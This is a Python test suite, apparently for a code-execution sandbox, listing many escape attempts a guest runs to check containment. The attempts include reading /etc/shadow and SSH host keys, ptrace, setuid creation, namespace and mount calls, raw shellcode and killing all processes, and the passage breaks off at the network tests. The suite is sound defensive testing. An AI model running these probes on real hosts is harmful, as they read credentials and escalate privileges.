"""What hostile code tries, one case each; harness.Attack explains the fields, prelude.py the helpers."""
from __future__ import annotations

import json
import shutil
import sys
from pathlib import Path

from harness import GUEST, SUPPORT, Attack, Outcome, Place, kernel_flags

# ---- the options that attacks run with ----------------------------------------------------------


def _servers(place: Place) -> list[str]:
    server = {"command": sys.executable, "args": [str(SUPPORT / "mcp_server.py")], "env": {"TOKEN": place.token, "MODE": "production"}}
    return ["--config", str(place.file("mcp.json", json.dumps({"mcpServers": {"own": server}})))]


def _limits(**limits: str) -> list[str]:
    return [word for name, value in limits.items() for word in ("--limit", f"{name.replace('_', '-')}={value}")]


def _judged(place: Place) -> list[str]:
    """Calls within one directory are allowed, and all are recorded."""
    text = {"under": str(place.workspace / "drafts"), "base": str(place.workspace)}
    rules = [{"when": {"tool": "echo", "arguments": {"/text": text}}, "then": "allow"}, {"when": {"tool": "structured"}, "then": "allow"},
             {"then": "deny"}]
    policy = place.file("policy.json", json.dumps({"rules": rules}))
    return [*_servers(place), "--policy", str(policy), "--audit", str(place.root / "audit.jsonl")]


def _inner_files(place: Place) -> list[str]:
    """The host's own configuration lies in the workspace, where people keep it."""
    servers = Path(_servers(place)[1]).read_text()
    place.file("workspace/servers.json", servers)
    place.file("workspace/sandbox.json", json.dumps({"filesystem": {"allowWrite": ["."]}}))
    return ["--config", "servers.json", "--sandbox-config", "sandbox.json", "--approve", "allow"]


PROFILES = {
    "default": lambda place: [],
    "zmq": lambda place: ["--kernel", "zmq"],
    "tools": lambda place: [*_servers(place), "--approve", "allow"],
    "judged": _judged,
    "deny": lambda place: [*_servers(place), "--approve", "deny"],
    # Everything is readable but what is denied, as with sandbox-runtime.
    "settings": lambda place: ["--sandbox-config", place.settings({"filesystem": {
        "allowWrite": ["."], "denyRead": [str(place.outside), "private"], "denyWrite": ["frozen"]}})],
    "allow-list": lambda place: ["--sandbox-config", place.settings({
        "network": {"allowedDomains": ["allowed.example", "localhost", "*.wild.example"],
                    "deniedDomains": ["denied.wild.example"]},
        "filesystem": {"allowWrite": ["."], "denyRead": [str(place.outside)]}})],
    "inner-files": _inner_files,
    "images": lambda place: ["--images-dir", "pictures"],
    "limits": lambda place: _limits(memory="2G", processes="150", open_files="256", file_size="20M", scratch="16M"),
    "inodes": lambda place: _limits(scratch_inodes="500"),
    "cpu": lambda place: _limits(cpu="2"),
    "wall": lambda place: _limits(wall="4"),
    "memory-total": lambda place: _limits(memory_total="400M"),
    "timeout": lambda place: ["--timeout", "1"],
    # Each way that the wall against programs is put up.
    "no-exec": lambda place: ["--no-exec"],
    "no-exec-zmq": lambda place: ["--no-exec", "--kernel", "zmq"],
    "no-exec-forked": lambda place: ["--no-exec", *kernel_flags("fork", "bubblewrap")],
    "no-exec-relay": lambda place: ["--no-exec", "--sandbox-config", place.settings({"filesystem": {"allowWrite": ["."]}})],
    # And with a broker outside that is never told yes.
    "asked": lambda place: ["--approve-programs", "--approve", "deny"],
    "asked-network": lambda place: ["--approve-programs", "--approve", "deny", "--allow-host", "allowed.example"],
    "no-exec-network": lambda place: ["--no-exec", "--allow-host", "allowed.example"],
}

# ---- what the host would notice -----------------------------------------------------------------


def absent(*names: str):
    """None of these came to be in the workspace with something in it."""
    def check(place: Place, outcome: Outcome) -> str:
        for name in names:
            path = place.workspace / name
            if path.is_symlink() or path.is_file() or (path.is_dir() and any(path.iterdir())):
                return f"{name} was planted"
        return ""
    return check


def unchanged(name: str, text: str):
    def check(place: Place, outcome: Outcome) -> str:
        path = place.workspace / name
        if path.is_symlink() or not path.is_file() or path.read_text() != text:
            return f"{name} is not what it was"
        return ""
    return check


def git_is_safe(place: Place, outcome: Outcome) -> str:
    """git on the host runs nothing that the guest left."""
    for command in (["status"], ["diff"], ["log", "-1"], ["add", "."], ["commit", "--allow-empty", "-m", "second"]):
        place.git(*command)
    return "git on the host ran a planted command" if (place.outside / "pwned").exists() else ""


def _submodule(place: Place) -> None:
    place.repository("outside/part")
    place.repository()
    place.git("-c", "protocol.file.allow=always", "submodule", "add", "--name", "lib/part", str(place.outside / "part"), "part")
    place.git("config", "core.hooksPath", ".husky")
    place.file("workspace/.husky/pre-commit", "", 0o755)
    place.git("commit", "-q", "-m", "submodule")
    shutil.rmtree(place.outside / "part")


def _husky(place: Place) -> None:
    """git's hooks as husky and tools like it set them up, and configuration in files of its own."""
    place.repository()
    place.git("config", "core.hooksPath", ".husky/_")
    place.file("workspace/.husky/_/pre-commit", "#!/bin/sh\n. .husky/pre-commit\n", 0o755)
    place.file("workspace/.husky/pre-commit", "sh scripts/check.sh\n", 0o755)
    place.file("workspace/scripts/check.sh", "python3 scripts/more.py || true\n")
    place.file("workspace/scripts/more.py", "")
    place.git("config", "core.fsmonitor", "tools/watch.sh")
    place.file("workspace/tools/watch.sh", "#!/bin/sh\nfalse\n", 0o755)
    place.git("config", "include.path", "../shared.conf")  # absent
    place.git("config", "includeIf.gitdir:/.path", "../team/team.conf")
    place.file("workspace/team/team.conf", "[include]\npath = more.conf\n")


def _linked_hook(place: Place) -> None:
    place.repository()
    place.file("workspace/tools/commit", "#!/bin/sh\n", 0o755)
    place.link("workspace/.git/hooks/pre-commit", "../../tools/commit")


def memory_below(limit: int):
    def check(place: Place, outcome: Outcome) -> str:
        return f"the host's process used {outcome.peak_memory >> 20} MiB" if outcome.peak_memory > limit else ""
    return check


def ends_like_any_other(place: Place, outcome: Outcome) -> str:
    return "" if outcome.status in (0, 1) else f"the program ended with {outcome.status}"


def nothing_late(place: Place, outcome: Outcome) -> str:
    """No tool call after the cell was carried out; late.txt says how those ended that were tried."""
    path = place.workspace / "late.txt"
    text = path.read_text() if path.exists() else ""
    if "ESCAPED" in text or "[allowed] own.echo(text='late" in outcome.errors:
        return f"a call after the cell was carried out: {text[:300]}"
    return "" if text else "no call after the cell was tried"


ATTACKS: list[Attack] = []
BOTH = ("bubblewrap", "srt")
ALL = (*BOTH, "gateway")  # kernels of that backend, in bubblewrap


def attack(name: str, layer: str, code: str, **more) -> None:
    if layer in ("seccomp", "calls", "protect", "hidden"):
        more.setdefault("sandboxes", BOTH)  # the same filters and the same policy
    ATTACKS.append(Attack(name, layer, code.strip() + "\n", **more))


def denied(name: str, layer: str, action: str, by: str, **more) -> None:
    """One expression that must fail."""
    attack(name, layer, f"attempt(lambda: {action})", by=by, **more)


# ---- reading what is not in the view ------------------------------------------------------------

GONE = "ENOENT|EACCES"

denied("read_a_file_of_the_host", "view", "read(host['secret'])", GONE, escapes_without="view")
denied("list_a_directory_of_the_host", "view", "os.listdir(host['outside'])", GONE, escapes_without="view")
denied("read_upwards_from_the_workspace", "view", "read('../outside/secret')", GONE, escapes_without="view")
attack("read_password_hashes_keys_and_homes", "view", """
for path in ("/etc/shadow", "/etc/ssh/ssh_host_rsa_key", "/etc/hostname", "/etc/machine-id", "/root", "/var/log", "/sys",
             "/boot", "/srv", "/mnt", "/etc/cron.d"):
    attempt(lambda: read(path) if not os.path.isdir(path) else os.listdir(path))
""", by=GONE, escapes_without="view")
denied("follow_a_link_that_the_host_has", "view", "read('to_secret')", GONE, escapes_without="view",
       setup=lambda place: place.link("workspace/to_secret", place.secret))
attack("follow_a_link_of_ones_own", "view", """
os.symlink(host["outside"], "to_outside")
attempt(lambda: read("to_outside/secret"))
attempt(lambda: os.listdir("to_outside"))
""", by=GONE, escapes_without="view")
denied("link_a_file_of_the_host_into_the_workspace", "view", "os.link(host['secret'], 'linked')", "ENOENT|EXDEV|EPERM")
attack("read_through_the_links_in_proc", "view", """
for process in ("self", "thread-self", "1", str(os.getppid())):
    for way in ("root", "cwd"):
        attempt(lambda: read(f"/proc/{process}/{way}" + host["secret"]))
        attempt(lambda: read(f"/proc/{process}/{way}/../../../../../.." + host["secret"]))
""", by="ENOENT|EACCES|EPERM|ENOTDIR", escapes_without="view")
attack("find_an_open_file_of_the_host", "view", """
# A directory handle that leaked would be a way around every mount.
for number in os.listdir("/proc/self/fd"):
    try:
        target = os.readlink(f"/proc/self/fd/{number}")
    except OSError:
        continue
    if target.startswith("/") and not target.startswith(("/dev/", "/run/ipybox", "/proc/", host["workspace"], "/usr",
                                                         "/home/user", "/memfd:", sys.prefix)):
        print("ESCAPED:", target)
for number in os.listdir("/proc/self/fd"):
    attempt(lambda: os.open("../outside/secret", os.O_RDONLY, dir_fd=int(number)))
    attempt(lambda: os.open("../../../../../../var/tmp", os.O_RDONLY | os.O_DIRECTORY, dir_fd=int(number)) and
            os.path.basename(os.path.dirname(host["workspace"])) in os.listdir("/var/tmp") or 1 / 0)
""", by="ENOENT|ENOTDIR|EACCES|EBADF|ZeroDivisionError.*")
denied("open_a_file_by_its_handle", "seccomp", "call('open_by_handle_at', -100, bytes(128), 0)", "EPERM")
attack("name_the_inode_of_the_disk_s_root", "view", """
# Inode 2 of the file system that holds the workspace: the beginning of the "shocker" attack.
handle = struct.pack("<IiII", 8, 1, 2, 0) + bytes(120)
directory = os.open(".", os.O_RDONLY)
attempt(lambda: call("open_by_handle_at", directory, handle, os.O_RDONLY))
""", by="EPERM")
attack("reach_the_old_root", "view", """
for path in ("/oldroot", "/newroot", "/proc/1/root/oldroot", "/.old"):
    attempt(lambda: os.listdir(path))
""", by="ENOENT|EACCES")
attack("read_the_kernel_s_memory", "view", """
for path in ("/dev/mem", "/dev/kmem", "/dev/port", "/proc/kcore", "/proc/kmsg", "/dev/vda", "/dev/sda", "/dev/nvme0n1"):
    attempt(lambda: read(path, "rb"))
""", by="ENOENT|EACCES|EPERM")
attack("read_the_environment_of_the_host", "view", """
print([name for name, value in os.environ.items() if "s3cret" in value or name == "SUPPORT"])
for name in os.listdir("/proc"):
    if name.isdigit():
        try:
            text = open(f"/proc/{name}/environ").read()
        except OSError as error:
            text = ""
        if "s3cret" in text:
            print("ESCAPED:", text)
print("looked")
""", says=r"^\[\]\nlooked")
denied("read_the_environment_of_process_1", "view", "read('/proc/1/environ') or 1 / 0",
       "EACCES|EPERM|ZeroDivisionError.*")
attack("find_the_host_s_command_lines", "namespaces", """
pids = sorted(int(name) for name in os.listdir("/proc") if name.isdigit())
print("ESCAPED:" if host["host_pid"] in pids or host["victim"] in pids else "sees", pids)
""", says="^sees", escapes_without="pid")
denied("read_files_of_another_session", "view",
       "[p for p in os.listdir('/tmp') + os.listdir('/run') if p.startswith('ipybox-')][0]", "IndexError.*")
attack("use_the_sockets_of_desktop_and_containers", "view", """
for path in ("/run/docker.sock", "/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket",
             "/run/systemd/private", "/run/user/0/bus", "/run/user/1000/bus", "/run/systemd/resolve/io.systemd.Resolve",
             "/tmp/.X11-unix/X0", "/run/snapd.socket", "/run/nscd/socket"):
    attempt(lambda: connect(socket.AF_UNIX, path))
""", by="ENOENT")

# ---- writing where nothing may be written -------------------------------------------------------

attack("write_to_the_system", "view", """
for path in ("/usr/x", "/usr/bin/x", "/etc/x", "/x", "/bin/x", "/lib/x", "/run/x", "/home/x", "/opt/x", "/var/x"):
    attempt(lambda: write(path))
for path in ("/etc/passwd", "/etc/hosts", "/etc/ld.so.cache", "/bin/sh", "/usr/bin/env"):
    attempt(lambda: write(path))
    attempt(lambda: os.chmod(path, 0o777))
    attempt(lambda: os.truncate(path, 0))
    attempt(lambda: os.utime(path))
""", by="EROFS|EACCES|EPERM|ENOENT|ETXTBSY")
attack("change_the_interpreter", "view", """
import ipykernel, ipybox_kernel, zmq
for module in (os, ipykernel, ipybox_kernel, zmq):
    attempt(lambda: write(module.__file__))
    attempt(lambda: write(os.path.join(os.path.dirname(module.__file__), "sitecustomize.py")))
attempt(lambda: os.unlink(sys.executable))
""", by="EROFS|EACCES|EPERM|EBUSY|ENOENT")
attack("write_outside_through_a_link", "view", """
os.symlink(host["outside"] + "/planted", "way_out")
attempt(lambda: write("way_out"))
attempt(lambda: write(host["outside"] + "/planted"))
attempt(lambda: os.rename(host["outside"] + "/secret", "moved"))
""", by="ENOENT|EACCES|EROFS|EXDEV", holds_without="view")
attack("write_a_device", "view", """
for path in ("/dev/x", "/dev/shm/../x", "/dev/pts/x"):
    attempt(lambda: write(path))
attempt(lambda: os.mknod("disk", 0o60600, os.makedev(8, 0)))
attempt(lambda: os.mknod("/tmp/memory", 0o20600, os.makedev(1, 1)))
attempt(lambda: os.mknod("/dev/shm/null", 0o20600, os.makedev(1, 3)))
""", by="EROFS|EPERM|EACCES")
attack("change_the_kernel_s_settings", "namespaces", """
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/vm/overcommit_memory",
             "/proc/sys/kernel/hostname", "/proc/sys/user/max_user_namespaces", "/proc/sysrq-trigger",
             "/proc/irq/default_smp_affinity", "/proc/mtrr", "/proc/acpi/wakeup"):
    attempt(lambda: write(path, "1"))
""", by="EROFS|EACCES|EPERM|ENOENT|EIO")
attack("replace_the_way_to_the_tools", "view", """
tools = os.environ["IPYBOX_TOOL_SOCKET"]
attempt(lambda: os.unlink(tools))
attempt(lambda: os.rename(tools, tools + "2"))
attempt(lambda: write(os.path.join(os.environ["PYTHONPATH"].split(":")[0], "ipybox_kernel/client.py")))
attempt(lambda: os.rename(host["workspace"], host["workspace"] + "2"))
attempt(lambda: os.rmdir(host["workspace"]))
attempt(lambda: os.symlink("/", os.path.dirname(host["workspace"]) + "/x"))
""", by="EROFS|EBUSY|EACCES|EPERM|ENOTEMPTY|EXDEV")

# ---- other processes ----------------------------------------------------------------------------

denied("signal_a_process_of_the_host", "namespaces", "os.kill(host['victim'], 0) or 'reached it'", "ESRCH|EPERM",
       holds_without="pid", escapes_without="pid,landlock", needs=("landlock-scopes",))
attack("kill_everything_there_is", "namespaces", """
other = subprocess.Popen(["sleep", "100"])
os.kill(-1, signal.SIGTERM)  # all but process 1 and oneself
print("killed", other.wait(), flush=True)
time.sleep(0.5)  # what is printed leaves in another thread
os.kill(os.getpid(), signal.SIGKILL)
""", says="killed -15(.|\n)*kernel ended", alone=True, status=(1,))
attack("kill_process_1", "namespaces", """
for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
    try:
        os.kill(1, number)  # without Landlock it is allowed, and ignored
    except PermissionError:
        pass
time.sleep(0.1)
print("still here")
""", says="^still here")
attack("trace_another_process", "seccomp", """
other = subprocess.Popen(["sleep", "100"])
attempt(lambda: call("ptrace", 16, other.pid, 0, 0))       # PTRACE_ATTACH
attempt(lambda: call("ptrace", 0x4206, other.pid, 0, 0))   # PTRACE_SEIZE
attempt(lambda: call("ptrace", 16, 1, 0, 0))
other.kill()
""", by="EPERM", escapes_without="seccomp")
attack("read_another_process_s_memory", "seccomp", """
other = subprocess.Popen(["sleep", "100"])
time.sleep(0.1)
start = int(open(f"/proc/{other.pid}/maps").read().split("-")[0], 16)
buffer = ctypes.create_string_buffer(16)
vector = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 16)
remote = (ctypes.c_void_p * 2)(start, 16)
attempt(lambda: call("process_vm_readv", other.pid, vector, 1, remote, 1, 0))
other.kill()
""", by="EPERM", escapes_without="seccomp")
attack("take_a_file_out_of_another_process", "seccomp", """
other = subprocess.Popen(["sleep", "100"], stdin=subprocess.PIPE)
handle = os.pidfd_open(other.pid)
attempt(lambda: call("pidfd_getfd", handle, 0, 0))
attempt(lambda: call("pidfd_getfd", os.pidfd_open(1), 0, 0))
other.kill()
""", by="EPERM", escapes_without="seccomp")
denied("compare_kernel_objects", "seccomp", "call('kcmp', os.getpid(), os.getpid(), 0, 0, 1)", "EPERM",
       escapes_without="seccomp")
attack("see_the_host_s_queues_and_shared_memory", "namespaces", """
attempt(lambda: [] [libc.msgget(host["ipc_key"], 0)])  # -1: there is none
others = [name for name in os.listdir("/dev/shm") if name != "ipython"]  # that is the kernel's own
print(open("/proc/sysvipc/msg").read().count("\\n"), others)
""", by="IndexError.*", says=r"^1 \[\]")
denied("open_the_host_s_terminal", "namespaces", "os.open('/dev/tty', os.O_RDWR)", "ENXIO|EACCES|EPERM|ENOENT")
attack("type_into_a_terminal", "seccomp", """
import fcntl, pty, termios
ours, theirs = pty.openpty()
for request in (0x5412, 0x5412 | 1 << 32, 0x5412 | 0xffffffff << 32, 0x541c):
    ctypes.set_errno(0)
    letter = ctypes.create_string_buffer(b"\\x06x")
    result = libc.ioctl(theirs, ctypes.c_ulong(request), letter)
    print("ESCAPED:" if result == 0 else "refused:", "typed" if result == 0 else errno.errorcode[ctypes.get_errno()])
""", by="EPERM")
attack("type_into_a_terminal_of_ones_own_session", "seccomp", """
elsewhere('''
import fcntl, pty, termios
ours, theirs = pty.openpty()
os.setsid()
fcntl.ioctl(theirs, termios.TIOCSCTTY, 0)
letter = ctypes.create_string_buffer(b"x")
result = libc.ioctl(theirs, ctypes.c_ulong(0x5412), letter)
print("ESCAPED:" if result == 0 else "refused:", "typed" if result == 0 else errno.errorcode[ctypes.get_errno()])
''')
""", by="EPERM|EIO")

# ---- rights -------------------------------------------------------------------------------------

attack("have_or_get_capabilities", "namespaces", """
status = dict(line.split(":\\t", 1) for line in open("/proc/self/status").read().splitlines())
print(*(status[name].strip() for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp")))
header, data = struct.pack("<Ii", 0x20080522, 0), struct.pack("<IIIIII", *[0xffffffff] * 6)
attempt(lambda: call("capset", header, data))
attempt(lambda: os.setuid(0) or os.geteuid())
attempt(lambda: os.setresuid(0, 0, 0) or os.geteuid())
attempt(lambda: os.setgroups([0]))
attempt(lambda: os.setpriority(os.PRIO_PROCESS, 0, -20))
""", by="EPERM|EINVAL|EACCES", says="^0000000000000000 0000000000000000 0000000000000000 0000000000000000 0000000000000000 1 2$")
attack("map_more_users", "namespaces", """
for path, text in (("uid_map", "0 0 4294967295"), ("gid_map", "0 0 4294967295"), ("setgroups", "allow")):
    attempt(lambda: write(f"/proc/self/{path}", text))
    attempt(lambda: write(f"/proc/1/{path}", text))
""", by="EPERM|EACCES|EROFS")
attack("run_setuid_programs_of_the_system", "namespaces", """
import glob, stat
found = [p for p in glob.glob("/usr/bin/*") if os.lstat(p).st_mode & stat.S_ISUID]
for program in found[:20]:
    elsewhere(f"os.execv({program!r}, [{program!r}, '--version'])", stdin=subprocess.DEVNULL)
done = subprocess.run(["su", "-c", "id -u"], stdin=subprocess.DEVNULL, capture_output=True, text=True)
print("ESCAPED: root" if done.stdout.strip() == "0" else "no root")
""", says="^no root")
attack("make_a_setuid_program", "seccomp", """
import shutil
shutil.copy("/usr/bin/id", "id")
os.chmod("id", 0o755)
attempt(lambda: os.chmod("id", 0o4755))
attempt(lambda: os.chmod("id", 0o2755))
attempt(lambda: os.fchmod(os.open("id", os.O_RDONLY), 0o6755))
attempt(lambda: call("fchmodat", -100, b"id", 0o4755))
attempt(lambda: call("fchmodat2", -100, b"id", 0o4755, 0))
attempt(lambda: os.open("a", os.O_CREAT | os.O_WRONLY, 0o4755))
attempt(lambda: os.open("b", os.O_CREAT | os.O_WRONLY | os.O_EXCL, 0o2755))
attempt(lambda: os.open(".", os.O_TMPFILE | os.O_WRONLY, 0o4755))
attempt(lambda: os.mkdir("c", 0o2755))
attempt(lambda: os.mknod("d", 0o104755))
attempt(lambda: os.chmod("/tmp", 0o6777))
subprocess.run(["chmod", "u+s", "id"], capture_output=True)
subprocess.run(["cp", "--preserve=mode", "/usr/bin/su", "su"], capture_output=True)
subprocess.run(["install", "-m", "4755", "/usr/bin/id", "installed"], capture_output=True)
subprocess.run(["tar", "-cf", "/tmp/su.tar", "/usr/bin/su"], capture_output=True)
subprocess.run(["tar", "-xpf", "/tmp/su.tar"], capture_output=True)
print("set:", [p for p in os.listdir(".") if os.lstat(p).st_mode & 0o6000])
""", by="EPERM|ENOSYS", says=r"^set: \[\]", escapes_without="seccomp")
attack("make_a_setuid_program_by_newer_calls", "seccomp", """
how = struct.pack("<QQQ", os.O_CREAT | os.O_WRONLY, 0o4755, 0)
attempt(lambda: call("openat2", -100, b"by_openat2", how, len(how)))
attempt(lambda: call("mknodat", -100, b"by_mknodat", 0o102755, 0))
""", by="EPERM|ENOSYS", escapes_without="seccomp")
attack("give_a_file_capabilities", "namespaces", """
import shutil
shutil.copy("/usr/bin/id", "capable")
attempt(lambda: os.setxattr("capable", "security.capability", struct.pack("<IIIII", 0x02000001, 0xffffffff, 0, 0, 0)))
attempt(lambda: os.setxattr("capable", "trusted.x", b"x"))
attempt(lambda: os.chown("capable", 0, 0))
""", by="EPERM|EINVAL|ENOTSUP")
attack("own_files_of_the_host_s_other_users", "user", """
print(write("made_by_guest"))
""", says="^made_by_guest", harm=lambda place, outcome: "" if
       (place.workspace / "made_by_guest").stat().st_uid == GUEST != 0 else "the kernel has root's rights")

# ---- the system calls that reach deep into the kernel -------------------------------------------

attack("make_namespaces", "seccomp", """
for flag in (0x10000000, 0x00020000, 0x20000000, 0x40000000, 0x04000000, 0x08000000, 0x02000000, 0x00000080):
    attempt(lambda: call("unshare", flag))
    attempt(lambda: call("clone", flag | signal.SIGCHLD, 0, 0, 0, 0))
print(subprocess.run(["unshare", "--user", "--map-root-user", "true"], capture_output=True).returncode)
""", by="EPERM", says="^[1-9]")
attack("make_processes_by_a_call_that_no_filter_sees", "seccomp", """
arguments = struct.pack("<QQQQQQQQ", 0x10000000, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
attempt(lambda: call("clone3", arguments, len(arguments)))
elsewhere('''
import struct
arguments = struct.pack("<QQQQQQQQ", 0, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
try:
    child = call("clone3", arguments, len(arguments))
    if child == 0:
        os._exit(0)
    print("ESCAPED:", child)
except OSError as error:
    print("refused:", why(error))
''')
""", by="ENOSYS|EPERM", escapes_without="seccomp")
attack("enter_other_namespaces", "seccomp", """
for name in ("user", "mnt", "net", "pid", "ipc", "uts"):
    attempt(lambda: call("setns", os.open(f"/proc/1/ns/{name}", os.O_RDONLY), 0))
""", by="EPERM|EACCES")
attack("mount_and_unmount", "namespaces", """
attempt(lambda: call("mount", b"none", b"/tmp", b"tmpfs", 0, 0))
attempt(lambda: call("mount", b"/", b"/tmp", b"none", 4096, 0))
attempt(lambda: call("mount", b"none", b"/usr", b"none", 32 | 4096, 0))   # remount writable
attempt(lambda: call("umount2", b"/proc", 2))
attempt(lambda: call("umount2", (host["workspace"] + "/.env").encode(), 2))
attempt(lambda: call("pivot_root", b".", b"."))
attempt(lambda: call("chroot", b"/tmp"))
attempt(lambda: call("fsopen", b"tmpfs", 0))
attempt(lambda: call("mount_setattr", -100, b"/usr", 0, bytes(32), 32))
""", by="EPERM|ENOSYS|EINVAL")
denied("open_a_mount_tree", "seccomp", "call('open_tree', -100, b'/', 0)", "EPERM|ENOSYS", escapes_without="seccomp")
denied("set_up_io_uring", "seccomp", "call('io_uring_setup', 4, ctypes.create_string_buffer(120))", "ENOSYS|EPERM",
       escapes_without="seccomp")
denied("talk_to_the_hypervisor", "seccomp", "socket.socket(40, socket.SOCK_STREAM)", "EAFNOSUPPORT",
       escapes_without="seccomp")
attack("use_kernel_keyrings", "seccomp", """
attempt(lambda: call("add_key", b"user", b"name", b"value", 5, -2))
attempt(lambda: call("keyctl", 0, -3, 1, 0, 0))
attempt(lambda: call("request_key", b"user", b"name", 0, -2))
""", by="EPERM|ENOSYS", escapes_without="seccomp")
denied("load_a_program_into_the_kernel", "seccomp", "call('bpf', 5, bytes(128), 128)", "EPERM")
denied("measure_other_processes", "seccomp", "call('perf_event_open', bytes(128), 0, -1, -1, 0)", "EPERM")
denied("handle_page_faults", "seccomp", "call('userfaultfd', 1)", "EPERM", escapes_without="seccomp")
denied("splice_memory", "seccomp", "call('vmsplice', os.pipe()[1], 0, 0, 0)", "EPERM", escapes_without="seccomp")
attack("administer_the_machine", "seccomp", """
attempt(lambda: call("reboot", 0xfee1dead, 672274793, 0x89abcdef, 0))
attempt(lambda: call("init_module", b"", 0, b""))
attempt(lambda: call("finit_module", 0, b"", 0))
attempt(lambda: call("kexec_load", 0, 0, 0, 0))
attempt(lambda: call("swapon", b"/tmp/x", 0))
attempt(lambda: call("acct", b"/tmp/x"))
attempt(lambda: call("quotactl", 0x80000700, 0, 0, bytes(128)))
attempt(lambda: call("sethostname", b"evil", 4))
attempt(lambda: call("settimeofday", bytes(16), 0))
attempt(lambda: call("syslog", 3, ctypes.create_string_buffer(4096), 4096))
attempt(lambda: call("fanotify_init", 0, 0))
""", by="EPERM")
attack("use_segments_and_ports", "seccomp", """
attempt(lambda: call("modify_ldt", 0, ctypes.create_string_buffer(64), 64))
attempt(lambda: call("iopl", 3))
""", by="EPERM", needs=("x86-64",))
attack("enter_the_kernel_by_another_door", "seccomp", """
# The calls of 32-bit programs have other numbers, which a filter may not know: int 0x80, and bit 30 of x32.
door = '''
import mmap
code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
code.write(bytes.fromhex("%s"))
enter = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
print("ESCAPED: process" if enter() == os.getpid() else "refused: ENOSYS")
'''
elsewhere(door % "53b814000000cd805bc3")     # push rbx; mov eax, 20; int 0x80; pop rbx; ret
elsewhere(door % "b8270000400f05c3")         # mov eax, 0x40000000 + 39; syscall; ret
""", says="^(ended by SIG(SYS|SEGV|KILL)|refused: ENOSYS)", needs=("x86-64",), escapes_without="seccomp")
attack("speak_unusual_protocols", "seccomp", """
for family in (3, 4, 5, 15, 17, 20, 21, 26, 29, 30, 31, 36, 38, 39, 40, 41, 42, 43, 44):  # AF_PACKET, AF_KEY, AF_ALG ...
    attempt(lambda: socket.socket(family, socket.SOCK_RAW if family == 17 else socket.SOCK_DGRAM))
    attempt(lambda: socket.socket(family, socket.SOCK_STREAM))
    attempt(lambda: socket.socket(family, socket.SOCK_SEQPACKET))
""", by="EAFNOSUPPORT")
attack("load_protocols_by_a_pair_of_sockets", "seccomp", """
pair = (ctypes.c_int * 2)()
for family in (2, 10, 16, 30, 38, 40):  # only Unix sockets come in pairs, but the others are made first
    print("refused:" if libc.socketpair(family, 1, 0, pair) < 0 else "ESCAPED:", errno.errorcode[ctypes.get_errno()])
""", by="EAFNOSUPPORT")
attack("choose_an_unusual_protocol", "seccomp", """
for family in (socket.AF_INET, socket.AF_INET6):
    for kind, protocol in ((1, 132), (5, 132), (2, 136), (1, 262), (6, 33), (2, 115)):  # SCTP, UDP-Lite, MPTCP, DCCP, L2TP
        attempt(lambda: socket.socket(family, kind, protocol))
""", by="EPROTONOSUPPORT", escapes_without="seccomp")
attack("make_calls_that_nobody_needs", "calls", """
# They work for everybody elsewhere: segments, semaphores and queues of System V and POSIX, asynchronous
# reading of files, file handles, and memory that the kernel itself cannot read.
attempt(lambda: call("shmget", 0, 4096, 0o600))
attempt(lambda: call("semget", 0, 1, 0o600))
attempt(lambda: call("msgget", 0, 0o600))
attempt(lambda: call("mq_open", b"queue", os.O_CREAT | os.O_RDWR, 0o600, 0))
attempt(lambda: call("io_setup", 1, ctypes.create_string_buffer(8)))
attempt(lambda: call("name_to_handle_at", -100, b".", struct.pack("<Ii", 64, 0) + bytes(64), bytes(4), 0))
""", by="EPERM", escapes_without="calls")
attack("change_how_a_terminal_reads", "calls", """
# A line discipline is a driver of its own; loading one is how some exploits begin.
import fcntl, pty
main, terminal = pty.openpty()
attempt(lambda: fcntl.ioctl(terminal, 0x5423, struct.pack("i", 0)))  # TIOCSETD
""", by="EPERM", escapes_without="calls")
attack("send_urgent_data_between_ones_own_sockets", "calls", """
near, far = socket.socketpair()
attempt(lambda: near.send(b"x", socket.MSG_OOB))
attempt(lambda: near.sendmsg([b"x"], [], socket.MSG_OOB))
""", by="EPERM", escapes_without="calls")
attack("put_protocols_and_filters_on_a_socket", "calls", """
stream = socket.socket()
attempt(lambda: stream.setsockopt(socket.SOL_SOCKET, 26, struct.pack("HxxxxxxP", 1, 0)))  # SO_ATTACH_FILTER
attempt(lambda: stream.setsockopt(socket.SOL_TCP, 31, b"tls"))                            # TCP_ULP
attempt(lambda: stream.setsockopt(0, 64, bytes(64)))                                      # IPT_SO_SET_REPLACE
attempt(lambda: stream.setsockopt(socket.SOL_SOCKET, 60, 1))                              # SO_ZEROCOPY
""", by="EPERM", escapes_without="calls")
attack("make_calls_that_came_later", "seccomp", """
for number in (471, 472, 500, 511, 1000, (1 << 32) | 471):
    libc.syscall(ctypes.c_long(number), 0, 0, 0)
    print("refused:", errno.errorcode[ctypes.get_errno()])
""", by="ENOSYS")
attack("have_the_machine_handle_a_crash", "limits", """
# A limit of 0 does not keep the host's handler of core dumps from being started, a limit of 1 does.
elsewhere("import resource as r\\nattempt(lambda: r.setrlimit(r.RLIMIT_CORE, (0, 0)))\\n"
          "attempt(lambda: r.prlimit(0, r.RLIMIT_CORE, (0, 1)))\\n"
          "print('refused: ValueError' if r.getrlimit(r.RLIMIT_CORE) == (1, 1) else 'ESCAPED', flush=True)\\nos.abort()")
""", by="ValueError.*|EINVAL", says="^ended by SIGABRT", escapes_without="seccomp")
attack("ask_the_kernel_about_sockets", "seccomp", """
for protocol in (4, 5, 6, 9, 11, 12, 15, 16, 20):  # sock_diag, netfilter, audit, uevent, generic ...
    attempt(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol))
""", by="EAFNOSUPPORT", escapes_without="seccomp")

# ---- the network --------------------------------------------------------------------------------

CLOSED = "ECONNREFUSED|ENETUNREACH|EADDRNOTAVAIL|EHOSTUNREACH|EPERM|EACCES"

denied("reach_a_port_of_the_host", "namespaces", "connect(socket.AF_INET, ('127.0.0.1', host['tcp']))", CLOSED,
       escapes_without="network")
attack("reach_a_port_of_the_host_by_other_names", "namespaces", """
